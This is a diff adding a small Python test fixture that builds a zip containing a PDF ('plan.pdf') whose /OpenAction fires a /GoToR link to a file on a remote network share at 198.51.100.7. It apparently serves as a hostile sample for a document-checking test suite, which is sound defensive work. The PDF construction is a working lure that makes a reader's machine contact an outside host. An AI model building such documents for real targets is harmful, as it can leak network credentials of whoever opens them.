@@ -1,0 +1,13 @@
+"""A link to a file on a network share."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.unit.checks.hostile_documents import pdf
+from tests.unit.checks.hostile_zip import Item, index, write, zip_bytes
+
+
+def make(folder: Path) -> Path:
+    document = pdf("/OpenAction 4 0 R", "<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\a.pdf) /D [0 /Fit] >>")
+    return write(folder, zip_bytes([index(), Item("plan.pdf", document)]))
